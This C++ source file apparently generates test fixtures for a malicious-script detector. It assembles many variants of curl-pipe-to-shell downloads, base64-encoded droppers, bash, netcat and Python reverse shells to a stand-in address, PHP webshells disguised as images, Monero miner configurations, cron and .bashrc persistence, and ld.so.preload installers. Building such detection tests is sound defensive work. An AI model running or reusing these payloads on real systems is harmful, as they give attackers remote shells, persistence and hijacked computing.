// SPDX-License-Identifier: Apache-2.0
#include "variations.hpp"

namespace portcullis::test {
namespace {

const std::string kShell = "#!/bin/sh\nset -e\n";
const std::string kBash = "#!/usr/bin/env bash\n";
const std::string kAt = "http://203.0.113.7";
const std::string kGet = std::string("cu") + "rl ";
const std::string kFetch = std::string("wg") + "et ";
const std::string kTcp = std::string("/dev") + "/tcp/203.0.113.7/4444";
const std::string kPhp = std::string("<?") + "php ";
const std::string kAsked = std::string("$_") + "GET";
const std::string kSent = std::string("$_") + "POST";

std::string base64(const std::string& text) {
  static const char* const kDigits = "ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789+/";
  std::string out;
  for (std::size_t i = 0; i < text.size(); i += 3) {
    unsigned group = 0;
    for (std::size_t k = 0; k < 3; ++k) {
      group = group << 8 | (i + k < text.size() ? static_cast<unsigned char>(text[i + k]) : 0U);
    }
    for (std::size_t k = 0; k < 4; ++k) {
      out += i + k > text.size() ? '=' : kDigits[group >> (18 - 6 * k) & 63];
    }
  }
  return out;
}

std::string upper(std::string text) {
  for (char& c : text) c = c >= 'a' && c <= 'z' ? static_cast<char>(c - 32) : c;
  return text;
}

std::vector<Variation> rows(const std::string& rule, const std::string& path,
                            const std::vector<std::string>& contents) {
  std::vector<Variation> made;
  for (const auto& content : contents) {
    made.push_back({rule + "_" + std::to_string(made.size()), rule, content, path});
  }
  return made;
}

/// Each makes what an address gives out run in a shell.
std::vector<Variation> downloads() {
  return rows(
      "download_and_run_from_address", "usr/local/bin/setup",
      {kShell + kGet + "-fsSL " + kAt + "/x | sh\n",
       kBash + kGet + "-sSLk https://203.0.113.7:8443/a.sh|bash\n",
       "#!/bin/bash\r\n" + kFetch + "-q -O - " + kAt + "/x |sh\r\nexit 0\r\n",
       kShell + "  /usr/bin/" + kGet + "-s '" + kAt + "/x' | /usr/bin/env bash\n",
       kShell + kGet + "-s " + kAt + "/x | sudo -E bash -s -- now\n",
       kShell + kGet + "-s " + kAt + "/x | /usr/bin/bash\n", kShell + kGet + "-s " + kAt + "/x \\\n  | sh\n",
       kShell + "(" + kGet + "-fsSL " + kAt + "/x || " + kFetch + "-q -O- " + kAt + "/x) | sh\n",
       kShell + kGet + "-s " + upper("http") + "://203.0.113.7/x | sh\n",
       kShell + kGet + "-s 203.0.113.7/x | sh\n", kShell + kGet + "-s " + kAt + "/x | python3\n",
       kShell + kGet + "-s " + kAt + "/x | perl -\n",
       kShell + "sh -c \"$(" + kGet + "-fsSL " + kAt + "/x)\"\n",
       kBash + "bash <(" + kGet + "-s " + kAt + "/x)\n", kBash + "source <(" + kGet + "-s " + kAt + "/x)\n",
       kShell + "eval \"$(" + kFetch + "-qO- " + kAt + "/x)\"\n",
       kShell + "eval `" + kGet + "-s " + kAt + "/x`\n"});
}

std::vector<Variation> encoded() {
  const std::string text =
      base64("#!/bin/sh\n" + kGet + "-s " + kAt + "/x -o /tmp/x; chmod +x /tmp/x; /tmp/x\n");
  return rows(
      "encoded_and_run", "etc/init.d/net",
      {kShell + "echo " + text + " | base64 -d | sh\n",
       kBash + "echo -n \"" + text + "\"|base64 --decode|bash\n",
       kShell + "printf '%s' '" + text + "' | base64 -d | sh\n",
       kShell + "printf '" + text + "' | base64 -di | /bin/sh\n",
       kBash + "base64 -d <<< \"" + text + "\" | sh\n", kBash + "base64 -d <<<'" + text + "' | bash\n",
       kShell + "echo '" + text + "' | openssl base64 -d -A | sh\n",
       kShell + "echo " + text + " | base64 -d | sudo bash\n",
       kShell + "eval \"$(echo " + text + " | base64 -d)\"\n",
       kShell + "sh -c \"$(echo '" + text + "' | base64 --decode)\"\n",
       kBash + "bash <(echo " + text + " | base64 -d)\n",
       kShell + "echo " + text + " | base64 -d | gunzip | sh\n"});
}

std::vector<Variation> shells() {
  auto made = rows(
      "reverse_shell_script", "usr/bin/health",
      {kBash + "bash -i >& " + kTcp + " 0>&1\n",
       kBash + "/bin/bash -c '/bin/bash -i >& " + kTcp + " 0>&1' &\n",
       kBash + "nohup bash -c 'bash -i &>" + kTcp + " <&1' &\n",
       kBash + "exec 5<>" + kTcp + "; cat <&5 | while read line; do $line 2>&5 >&5; done\n",
       kBash + "0<&196;exec 196<>" + kTcp + "; sh <&196 >&196 2>&196\n",
       kBash + "exec 3<>" + kTcp + "\nsh -i <&3 >&3 2>&3\n", kShell + "nc -e /bin/sh 203.0.113.7 4444\n",
       kShell + "nc 203.0.113.7 4444 -e /bin/bash\n", kShell + "ncat 203.0.113.7 4444 --exec /bin/bash\n",
       kShell + "busybox nc 203.0.113.7 4444 -e sh\n",
       kShell + "rm -f /tmp/f;mkfifo /tmp/f;cat /tmp/f|/bin/sh -i 2>&1|nc 203.0.113.7 4444 >/tmp/f\n",
       kShell + "mknod /tmp/p p; cat /tmp/p | sh -i 2>&1 | nc 203.0.113.7 4444 > /tmp/p\n",
       kShell + "mkfifo /tmp/p; /bin/sh 0</tmp/p | nc 203.0.113.7 4444 1>/tmp/p\n"});
  const std::string import = "import socket,subprocess,os,pty\ns=socket.socket()\n";
  const std::string connect = "s.connect((\"203.0.113.7\",4444))\n";
  const auto python =
      rows("reverse_shell_python", "srv/app/util.py",
           {import + connect + "os.dup2(s.fileno(),0)\nos.dup2(s.fileno(),1)\nos.dup2(s.fileno(),2)\n" +
                "subprocess.call(['/bin/sh','-i'])\n",
            import + connect + "[os.dup2(s.fileno(),fd) for fd in (0,1,2)]\npty.spawn('/bin/bash')\n",
            import + connect + "for fd in range(3):\n  os.dup2(s.fileno(), fd)\npty.spawn(\"sh\")\n"});
  made.insert(made.end(), python.begin(), python.end());
  const std::string under = "os.dup2(s.fileno(),0); os.dup2(s.fileno(),1); os.dup2(s.fileno(),2)\n";
  const auto variable =
      rows("backdoor_python_shell", "srv/app/tasks.py",
           {import + "HOST='203.0.113.7'\nPORT=4444\ns.connect((HOST,PORT))\n" + under +
                "p=subprocess.call(['/bin/sh','-i'])\n",
            "s = socket.socket()\ns.connect( (target.host, int(target.port)) )\nfor f in range(3):\n    "
            "os.dup2( s.fileno(), f )\n"
            "os.execl(\"/bin/bash\", \"bash\", \"-i\")\n",
            import + "s.connect((os.getenv(\"RHOST\"),int(os.getenv(\"RPORT\"))))\n" +
                "[os.dup2(s.fileno(),fd) for fd in (0,1,2)]\npty.spawn(\"sh\")\n",
            kShell + "python3 -c 'import "
                     "socket,os,pty;conn=socket.create_connection((H,p));os.dup2(conn.fileno(),0);"
                     "os.dup2(conn.fileno(),1);pty.spawn(\"/bin/sh\")'\n"});
  made.insert(made.end(), variable.begin(), variable.end());
  return made;
}

std::vector<Variation> webshells() {
  auto made = rows(
      "webshell_php_request", "var/www/html/wp-content/uploads/img.jpg.phtml",
      {kPhp + "system(" + kAsked + "['c']); ?>\n",
       upper("<?php ") + upper("system") + "(" + kAsked + "['c']);\n", kPhp + "@EvAl(" + kSent + "['a']);\n",
       "<?= shell_exec(" + kAsked + "[\"x\"]) ?>\n", std::string("<?") + "=`" + kAsked + "[0]`?>\n",
       kPhp + "if (isset(" + kAsked + "['c'])) {\n  `" + kAsked + "['c']`;\n}\n",
       kPhp + "/* a page */ die(`" + kSent + "['c']`);\n",
       kPhp + "$o = '<pre>' . `" + kSent + "['c'] 2>&1`;\n",
       "\xef\xbb\xbf" + kPhp + "passthru(" + kSent + "['q']);\n",
       "\n\n" + kPhp + "\n  system (" + kAsked + " ['c'] . ' 2>&1');\n",
       "<html><body>\n" + kPhp + "echo shell_exec(" + kAsked + "['c']);?></body></html>\n",
       kPhp + "assert(base64_decode(" + kSent + "['z0']));\n", kPhp + kAsked + "['f'](" + kSent + "['a']);\n",
       kPhp + "if(isset(" + kSent + "['p'])) { eval(stripslashes(" + kSent + "['p'])); }\n"});
  made.push_back(
      {"php_variable", "webshell_php_small", kPhp + "$c = " + kAsked + "['c'];\nsystem($c);\n", "srv/a.php"});
  made.push_back({"php_picture", "webshell_php_behind_picture",
                  "GIF89a\n" + kPhp + "eval(" + kSent + "['p']);\n", "srv/a.gif"});
  return made;
}

std::vector<Variation> miners() {
  const std::string wallet = "4" + std::string(1, '8') + std::string(46, 'e') + std::string(47, 'K');
  const std::string pool = std::string("pool.support") + "xmr.com:443";
  const std::string user = "\"user\": \"" + wallet + "\"";
  const std::string donate = std::string("\"donate") + "-level\"";
  auto made = rows("miner_configuration", "etc/nginx/.mime.dat",
                   {"{\"autosave\":true,\"cpu\":true," + donate + ":0,\"pools\":[{\"url\":\"" + pool + "\"," +
                        user + "}]}",
                    "{\n  // a comment\n  \"randomx\": {},\n  " + donate + ": 1,\n  \"pools\": [ { " + user +
                        ",\n \"url\": \"" + pool + "\" } ]\n}\n",
                    "\xef\xbb\xbf\n{ \"cpu\": {}, " + donate + " : 1, \"pools\" : [ { " + user +
                        ", \"url\" : \"x\" } ] }"});
  const auto scripts =
      rows("miner_wallet_script", "usr/bin/logrotated",
           {kShell + "./x -o " + pool + " -u " + wallet + " -p x -k\n",
            kShell + "./x --url=" + pool + " --user=" + wallet + "\n",
            kShell + "POOL=" + pool + "\nWALLET=" + wallet + "\n./x -o $POOL -u $WALLET\n",
            kShell + "XMR_ADDRESS='" + wallet + "'\nexec x -o " + pool + " -u \"$XMR_ADDRESS\"\n",
            kShell + "x -o " + upper(pool) + " -u " + wallet + ".worker1\n"});
  made.insert(made.end(), scripts.begin(), scripts.end());
  return made;
}

std::vector<Variation> schedules() {
  const std::string line = kGet + "-fsSL " + kAt + "/x | sh";
  auto made = rows("persistence_cron_download", "etc/cron.d/0hourly",
                   {"* * * * * root " + line + "\n", "@reboot root (" + line + ") >/dev/null 2>&1\n",
                    "SHELL=/bin/sh\n*/10 * * * * root  (" + kGet + "-s " + kAt + "/x||" + kFetch + "-q -O- " +
                        kAt + "/x)|bash\n",
                    "30 * * * * " + kFetch + "-O- http://example.com/a | bash > /dev/null\r\n"});
  const auto profiles = rows("persistence_profile_download", "root/.bashrc",
                             {"export A=1\n" + line + "\n", "alias x=y\n(" + line + " &) 2>/dev/null\n",
                              "nohup " + kFetch + "-qO- http://example.com/x | bash >/dev/null 2>&1 &\n"});
  made.insert(made.end(), profiles.begin(), profiles.end());
  const std::string preload = std::string("/etc/ld.so") + ".preload";
  const auto installers =
      rows("preload_installer", "opt/i",
           {kShell + "gcc -fPIC -shared -o /usr/lib/x.so x.c -ldl\necho /usr/lib/x.so >> " + preload +
                "\nchattr +i " + preload + "\n",
            kBash + kGet + "-so /lib/x.so " + kAt + "/x.so; echo /lib/x.so > \"" + preload +
                "\"; chattr +ia " + preload + "\n",
            kShell + kFetch + kAt + "/x.so -O /lib/x.so\necho '/lib/x.so' | tee -a " + preload +
                "\nchattr +i " + preload + "\n"});
  made.insert(made.end(), installers.begin(), installers.end());
  return made;
}

}  // namespace

std::vector<Variation> script_variations() {
  std::vector<Variation> all;
  for (const auto& some : {downloads(), encoded(), shells(), webshells(), miners(), schedules()}) {
    all.insert(all.end(), some.begin(), some.end());
  }
  return all;
}

}  // namespace portcullis::test
